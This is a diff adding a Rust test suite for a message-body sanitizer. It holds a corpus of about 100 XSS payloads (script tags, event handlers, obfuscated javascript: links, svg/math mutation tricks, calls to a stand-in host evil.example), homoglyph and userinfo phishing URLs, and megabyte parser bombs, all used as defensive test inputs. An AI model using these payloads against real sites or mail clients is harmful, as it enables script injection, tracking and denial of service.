@@ -1,0 +1,488 @@
+//! Hostile bodies: nothing in a message may act, and none may hang or overflow the reader. The
+//! vectors are ours, in the manner of html5sec and of DOMPurify's tests.
+
+use daybook_body::{mark, text, view};
+use model::BodyFormat;
+use model::body::{Block, BodyView, Inline};
+use proptest::prelude::*;
+use std::time::{Duration, Instant};
+
+/// Each would run `pwn()`, ask `evil.example`, or leave the page.
+const VECTORS: &[&str] = &[
+    // scripts, plain and disguised
+    "<script>pwn()</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<script/x>pwn()</script>",
+    "<script\n>pwn()</script\t\n>",
+    "<scr<script>ipt>pwn()</scr</script>ipt>",
+    "<script>//<!--\npwn()</script>",
+    "<script>\"</scr\"+\"ipt>\";pwn()</script>",
+    "<script",
+    "<script>pwn()",
+    "<<script>pwn();//<</script>",
+    "<noscript><p title=\"</noscript><img src=x onerror=pwn()>\">",
+    "<style>*{background:url(javascript:pwn())}</style>",
+    "<style>@import 'https://evil.example/pwn()';</style>",
+    "<style><img src=\"</style><img src=x onerror=pwn()>\">",
+    "<title><img title=\"</title><img src=x onerror=pwn()>\"></title>",
+    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
+    "<template><script>pwn()</script></template>",
+    "<iframe src=javascript:pwn()></iframe>",
+    "<iframe srcdoc=\"<script>pwn()</script>\"></iframe>",
+    "<noembed><script>pwn()</script></noembed>",
+    "<noframes><script>pwn()</script></noframes>",
+    // handlers
+    "<img src=x onerror=pwn()>",
+    "<img/src=x/onerror=pwn()>",
+    "<img src='x' onerror='pwn()' alt=\"a\">",
+    "<img src=x:x onerror\t=pwn()>",
+    "<body onload=pwn()>hello",
+    "<div onmouseover=pwn()>hello</div>",
+    "<a onclick=pwn() href=#>x</a>",
+    "<input autofocus onfocus=pwn()>",
+    "<details open ontoggle=pwn()>x</details>",
+    "<video><source onerror=pwn()></video>",
+    "<audio src=x onerror=pwn()>",
+    "<marquee onstart=pwn()>x</marquee>",
+    "<p style=\"width:expression(pwn())\">x</p>",
+    "<div style=\"background:url(https://evil.example/track)\">x</div>",
+    "<table background=\"https://evil.example/track\"><tr><td>x</td></tr></table>",
+    "<select onchange=pwn()><option>x</option></select>",
+    "<form action=javascript:pwn()><button formaction=javascript:pwn()>x</button></form>",
+    "<isindex type=image src=1 onerror=pwn()>",
+    "<object data=javascript:pwn()><param name=x></object>",
+    "<embed src=javascript:pwn()>",
+    "<applet code=x></applet>",
+    "<meta http-equiv=refresh content=\"0;url=javascript:pwn()\">",
+    "<link rel=stylesheet href=javascript:pwn()>",
+    "<base href=\"javascript:/a/-pwn()///\"><a href=../lol/safari.html>x</a>",
+    "<frameset onload=pwn()><frame src=javascript:pwn()></frameset>",
+    // links
+    "<a href=javascript:pwn()>x</a>",
+    "<a href=\"JaVaScRiPt:pwn()\">x</a>",
+    "<a href=\" \n javascript:pwn()\">x</a>",
+    "<a href=\"java\tscript:pwn()\">x</a>",
+    "<a href=\"java&#10;script:pwn()\">x</a>",
+    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;pwn()\">x</a>",
+    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;pwn()\">x</a>",
+    "<a href=\"javascript&colon;pwn()\">x</a>",
+    "<a href=\"\u{1}javascript:pwn()\">x</a>",
+    "<a href=\"javascript:https://good.example/%0apwn()\">x</a>",
+    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
+    "<a href=\"vbscript:pwn()\">x</a>",
+    "<a href=\"livescript:pwn()\">x</a>",
+    "<a href=\"feed:javascript:pwn()\">x</a>",
+    "<a href=\"view-source:javascript:pwn()\">x</a>",
+    "<a href=\"file:///etc/passwd\">x</a>",
+    "<a href=\"blob:https://good.example/1\">x</a>",
+    "<a href=\"tauri://localhost\">x</a>",
+    "<a href=\"ipc://localhost/pwn()\">x</a>",
+    "<a href=\"ms-msdt:/id\">x</a>",
+    "<a href=\"//evil.example\">x</a>",
+    "<a href=\"\\\\evil.example\\share\">x</a>",
+    "<a href=\"#\">x</a><a href>y</a><a href=\"\">z</a>",
+    "<a href=\"https://\">x</a><a href=\"http:///\">y</a><a href=mailto:>z</a>",
+    "<a href='x' href='javascript:pwn()'>x</a>",
+    "<area href=javascript:pwn()><map name=x><area href=javascript:pwn()></map>",
+    // foreign content and mutation
+    "<svg onload=pwn()>",
+    "<svg><script>pwn()</script></svg>",
+    "<svg><a xlink:href=\"javascript:pwn()\"><text>x</text></a></svg>",
+    "<svg><animate attributeName=href values=javascript:pwn() /></svg>",
+    "<svg><set attributeName=onload to=pwn()></svg>",
+    "<svg><foreignObject><iframe src=javascript:pwn()></iframe></foreignObject></svg>",
+    "<svg></p><style><a id=\"</style><img src=1 onerror=pwn()>\">",
+    "<math><a xlink:href=javascript:pwn()>x</a></math>",
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwn()&gt;\">",
+    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=pwn()></style></annotation-xml></math>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>",
+    "<!--><img src=x onerror=pwn()>-->",
+    "<!-- --!><img src=x onerror=pwn()>",
+    "<![CDATA[><img src=x onerror=pwn()>]]>",
+    "<?xml version=\"1.0\"?><img src=x onerror=pwn()>",
+    "<!doctype html [<!ENTITY x \"<script>1</script>\">]>",
+    "<listing>&lt;img src=x onerror=1&gt;</listing>",
+    "<xmp><p title=\"</xmp><img src=x onerror=pwn()>\"></xmp>",
+    "<p id=\"</p><img src=x onerror=pwn()>\">x",
+    "<a href=\"https://good.example\" title='\"><img src=x onerror=pwn()>'>x</a>",
+    "<wbr title=\"<script>pwn()</script>\">",
+    "<img alt=\"&quot;><script>\" src=x>",
+    "\u{0}<scr\u{0}ipt>1</scr\u{0}ipt>",
+    "+ADw-script+AD4-1+ADw-/script+AD4-",
+    "<table><td><a href=javascript:pwn()>x</table>",
+    "<b><p><a href=javascript:pwn()><b></p>x</b>",
+    "<select><template><img src=x onerror=pwn()></template></select>",
+    "<p><svg><desc><img src=x onerror=pwn()></desc></svg></p>",
+];
+
+fn every_format() -> [BodyFormat; 3] {
+    [BodyFormat::Html, BodyFormat::Markdown, BodyFormat::Plain]
+}
+
+fn links<'a>(blocks: &'a [Block], out: &mut Vec<(&'a str, &'a str)>) {
+    for block in blocks {
+        match block {
+            Block::Paragraph { inlines } | Block::Heading { inlines, .. } => {
+                inline_links(inlines, out)
+            }
+            Block::List { items, .. } => items.iter().for_each(|item| links(item, out)),
+            Block::Quote { blocks } => links(blocks, out),
+            Block::Table { head, rows } => head
+                .iter()
+                .chain(rows.iter().flatten())
+                .for_each(|cell| inline_links(cell, out)),
+            Block::Code { .. } | Block::Rule => {}
+        }
+    }
+}
+
+fn inline_links<'a>(inlines: &'a [Inline], out: &mut Vec<(&'a str, &'a str)>) {
+    for inline in inlines {
+        match inline {
+            Inline::Link { url, host, inlines } => {
+                out.push((url, host));
+                inline_links(inlines, out);
+            }
+            Inline::Strong { inlines }
+            | Inline::Emphasis { inlines }
+            | Inline::Strike { inlines } => {
+                inline_links(inlines, out);
+            }
+            _ => {}
+        }
+    }
+}
+
+fn links_of(view: &BodyView) -> Vec<(&str, &str)> {
+    let mut out = Vec::new();
+    links(&view.blocks, &mut out);
+    out
+}
+
+fn is_allowed(url: &str) -> bool {
+    ["http://", "https://", "mailto:"]
+        .iter()
+        .any(|scheme| url.starts_with(scheme))
+}
+
+#[test]
+fn the_corpus_is_large_enough() {
+    assert!(VECTORS.len() >= 60, "{} vectors", VECTORS.len());
+}
+
+#[test]
+fn no_vector_leaves_a_link_that_acts() {
+    for vector in VECTORS {
+        for format in every_format() {
+            let view = view(&format, vector);
+            for (url, host) in links_of(&view) {
+                assert!(
+                    is_allowed(url) && !host.is_empty(),
+                    "{format} {vector:?} leaves {url:?} at {host:?}"
+                );
+            }
+        }
+    }
+}
+
+#[test]
+fn no_vector_leaves_the_text_of_a_script() {
+    for vector in VECTORS
+        .iter()
+        .filter(|vector| !vector.contains("scr<script"))
+    {
+        let text = text(&BodyFormat::Html, vector);
+        let is_attribute_text = vector.starts_with("<xmp") || vector.starts_with("<textarea");
+        assert!(
+            is_attribute_text || !text.contains("pwn()"),
+            "{vector:?} leaves {text:?}"
+        );
+    }
+}
+
+#[test]
+fn a_message_before_a_vector_stays_readable() {
+    for vector in VECTORS {
+        let text = text(&BodyFormat::Html, &format!("<p>before</p>{vector}"));
+        assert!(text.starts_with("before"), "{vector:?}: {text:?}");
+    }
+}
+
+#[test]
+fn only_ordinary_links_stay() {
+    let cases = [
+        (
+            "https://good.example/a?b=c&amp;d#e",
+            Some(("https://good.example/a?b=c&d#e", "good.example")),
+        ),
+        (
+            "HTTP://Good.Example",
+            Some(("http://good.example/", "good.example")),
+        ),
+        (
+            "https://bank.com@evil.example/login",
+            Some(("https://bank.com@evil.example/login", "evil.example")),
+        ),
+        (
+            "https://bank.com%2F@evil.example",
+            Some(("https://bank.com%2F@evil.example/", "evil.example")),
+        ),
+        (
+            "https:\\\\evil.example\\bank.com",
+            Some(("https://evil.example/bank.com", "evil.example")),
+        ),
+        (
+            "https:evil.example",
+            Some(("https://evil.example/", "evil.example")),
+        ),
+        (
+            "https://bücher.example",
+            Some(("https://xn--bcher-kva.example/", "xn--bcher-kva.example")),
+        ),
+        (
+            "https://\u{430}pple.com",
+            Some(("https://xn--pple-43d.com/", "xn--pple-43d.com")),
+        ),
+        ("https://0x7f.1/", Some(("https://127.0.0.1/", "127.0.0.1"))),
+        (
+            "mailto:jane@acme.example?subject=Hi",
+            Some(("mailto:jane@acme.example?subject=Hi", "jane@acme.example")),
+        ),
+        (
+            "mailto:jane%40acme.example",
+            Some(("mailto:jane%40acme.example", "jane@acme.example")),
+        ),
+        ("tel:+441234567", None),
+        ("good.example", None),
+        ("/relative", None),
+    ];
+    for (href, expected) in cases {
+        let view = view(&BodyFormat::Html, &format!("<a href=\"{href}\">x</a>"));
+        assert_eq!(links_of(&view).first().copied(), expected, "{href}");
+        assert_eq!(
+            text(&BodyFormat::Html, &format!("<a href=\"{href}\">x</a>")),
+            "x",
+            "{href}"
+        );
+    }
+}
+
+#[test]
+fn a_link_in_markdown_is_as_hostile() {
+    for markdown in [
+        "[x](javascript:pwn())",
+        "<javascript:pwn()>",
+        "[x](<java\tscript:pwn()>)",
+        "[x]: vbscript:pwn()\n[x]",
+        "![x](javascript:pwn())",
+    ] {
+        let view = view(&BodyFormat::Markdown, markdown);
+        assert_eq!(links_of(&view), [], "{markdown}");
+    }
+}
+
+#[test]
+fn the_direction_of_a_line_cannot_be_forged() {
+    for format in every_format() {
+        assert!(
+            !format!(
+                "{:?}",
+                view(
+                    &format,
+                    "see \u{202E}elpmaxe.live\u{202C} and <a href='https://a.example'>\u{202D}b</a>"
+                )
+            )
+            .contains("202e")
+        );
+    }
+}
+
+/// Bodies of a megabyte that make naive readers hang or overflow.
+fn bombs() -> Vec<(&'static str, String)> {
+    let size = 1_000_000;
+    let repeat = |unit: &str| unit.repeat(size / unit.len());
+    vec![
+        ("nested divs", repeat("<div>")),
+        ("nested bold", repeat("<b>")),
+        ("nested links", repeat("<a href=https://a.example>")),
+        ("nested tables", repeat("<table><tr><td>")),
+        ("nested quotes", repeat("<blockquote>")),
+        ("nested lists", repeat("<ul><li>")),
+        ("nested fonts in paragraphs", repeat("<p><b><i><s>x")),
+        ("misnested", repeat("<b><p></b><i></p></i>")),
+        ("misnested links and divs", repeat("<a href=x><div></a>")),
+        ("orphan ends", repeat("</div></p></b>")),
+        ("breaks", repeat("<br>")),
+        ("images", repeat("<img>")),
+        (
+            "cells",
+            format!("<table>{}", repeat("<tr><td colspan=1000>x<td>y")),
+        ),
+        (
+            "one tag of many attributes",
+            format!("<a {}>x</a>", repeat("a b=c ")),
+        ),
+        ("open tags", repeat("<a ")),
+        ("open quotes", repeat("<a b=\"")),
+        ("odd quotes", format!("<a b=\"{}", repeat("<a b='> c=\">"))),
+        ("quoted ends", format!("<i x=\"{}", repeat("<a b=\">\" "))),
+        ("open comments", repeat("<!--")),
+        ("dashes", format!("<!--{}", repeat("--"))),
+        ("open scripts", repeat("<script>")),
+        (
+            "nearly closed scripts",
+            format!("<script>{}", repeat("</scrip")),
+        ),
+        ("angle brackets", repeat("<")),
+        ("ampersands", repeat("&amp")),
+        ("entities", repeat("&#x41;")),
+        ("svg", repeat("<svg><math>")),
+        ("select", repeat("<select><option>")),
+        ("plain addresses", repeat("http://a")),
+        (
+            "plain address of brackets",
+            format!("http://a{}", repeat("))")),
+        ),
+        ("plain schemes", repeat("://")),
+        ("markdown quotes", repeat("> ")),
+        ("markdown angle lines", repeat(">\n")),
+        ("markdown deep quotes", repeat(">")),
+        ("plain angle lines", repeat(">\n")),
+        ("plain deep quotes", repeat(">")),
+        ("markdown brackets", repeat("[")),
+        ("markdown links", repeat("[a](")),
+        ("markdown emphasis", repeat("*a_ ")),
+        (
+            "markdown backticks",
+            (1..1400).map(|n| "`".repeat(n) + " ").collect(),
+        ),
+        (
+            "markdown lists",
+            (0..1400).map(|n| " ".repeat(n % 700) + "* a\n").collect(),
+        ),
+        (
+            "markdown table",
+            format!(
+                "|{}\n|{}\n{}",
+                "a|".repeat(300),
+                "-|".repeat(300),
+                "|\n".repeat(3000)
+            ),
+        ),
+        ("plain words", repeat("word ")),
+        ("plain spaces", repeat(" ")),
+        ("plain newlines", repeat("\n")),
+    ]
+}
+
+/// Where a bomb could do harm. What is made for one reader is ordinary text to the others.
+fn formats_of(name: &str) -> Vec<BodyFormat> {
+    match name.split(' ').next() {
+        Some("markdown") => vec![BodyFormat::Markdown],
+        Some("plain") => vec![BodyFormat::Plain, BodyFormat::Html],
+        _ => vec![BodyFormat::Html],
+    }
+}
+
+/// A debug build under load; a release build needs a tenth of it.
+const QUICK: Duration = Duration::from_secs(20);
+
+#[test]
+fn no_body_hangs_or_overflows_the_stack() {
+    let work = || {
+        for (name, bomb) in bombs() {
+            for format in formats_of(name) {
+                let begun = Instant::now();
+                let view = mark(view(&format, &bomb), &|text| {
+                    vec![model::view::Piece {
+                        text: text.to_owned(),
+                        hit: true,
+                    }]
+                });
+                drop(view);
+                assert!(
+                    begun.elapsed() < QUICK,
+                    "{name} as {format} took {:?}",
+                    begun.elapsed()
+                );
+            }
+        }
+    };
+    // Half of what a thread of the application has.
+    let small = std::thread::Builder::new()
+        .stack_size(1 << 20)
+        .spawn(work)
+        .expect("a thread starts");
+    small.join().expect("no body overflows or hangs");
+}
+
+const PARTS: &str = "(<(/)?(a|b|i|p|div|table|tr|td|th|ul|li|blockquote|pre|code|h2|script|style|svg|math|img|br|title|template)( (href|src|alt|colspan|onclick)=[\"']?(javascript:x|https://a\\.example/|mailto:a@b\\.example|data:x|3)[\"']?){0,2}>?|text|&lt;|&#106;|&amp;|\\*\\*|`|\\[x\\]\\(javascript:x\\)|\\| a \\| b \\||> |- |\n| |http://b\\.example|<!--|-->){0,25}";
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]
+
+    #[test]
+    fn nothing_panics_and_no_scheme_slips_through(body in prop_oneof![PARTS.boxed(), any::<String>().boxed()]) {
+        for format in every_format() {
+            let view = view(&format, &body);
+            for (url, host) in links_of(&view) {
+                prop_assert!(is_allowed(url) && !host.is_empty(), "{url:?} {host:?}");
+            }
+        }
+    }
+
+    #[test]
+    fn text_is_at_rest(body in prop_oneof![PARTS.boxed(), any::<String>().boxed()]) {
+        for format in every_format() {
+            let once = text(&format, &body);
+            prop_assert_eq!(text(&BodyFormat::Plain, &once), once);
+        }
+    }
+
+    #[test]
+    fn marking_changes_no_text(body in PARTS, every in 1_usize..5) {
+        let hits = |text: &str| {
+            text.chars().collect::<Vec<_>>().chunks(every).enumerate().map(|(at, part)| model::view::Piece {
+                text: part.iter().collect(),
+                hit: at % 2 == 1,
+            }).collect()
+        };
+        let plain = view(&BodyFormat::Html, &body);
+        let marked = mark(plain.clone(), &hits);
+        prop_assert_eq!(leaves(&plain.blocks), leaves(&marked.blocks));
+    }
+}
+
+/// All leaf text of a tree, marks or not.
+fn leaves(blocks: &[Block]) -> String {
+    blocks
+        .iter()
+        .map(|block| match block {
+            Block::Paragraph { inlines } | Block::Heading { inlines, .. } => inline_leaves(inlines),
+            Block::List { items, .. } => items.iter().map(|item| leaves(item)).collect(),
+            Block::Quote { blocks } => leaves(blocks),
+            Block::Table { head, rows } => head
+                .iter()
+                .chain(rows.iter().flatten())
+                .map(|cell| inline_leaves(cell))
+                .collect(),
+            Block::Code { text } => text.clone(),
+            Block::Rule => String::new(),
+        })
+        .collect()
+}
+
+fn inline_leaves(inlines: &[Inline]) -> String {
+    inlines
+        .iter()
+        .map(|inline| match inline {
+            Inline::Text { text } | Inline::Code { text } | Inline::Mark { text } => text.clone(),
+            Inline::Strong { inlines }
+            | Inline::Emphasis { inlines }
+            | Inline::Strike { inlines }
+            | Inline::Link { inlines, .. } => inline_leaves(inlines),
+            Inline::BlockedImage { alt } => alt.clone(),
+            Inline::Break => "\n".to_owned(),
+        })
+        .collect()
+}
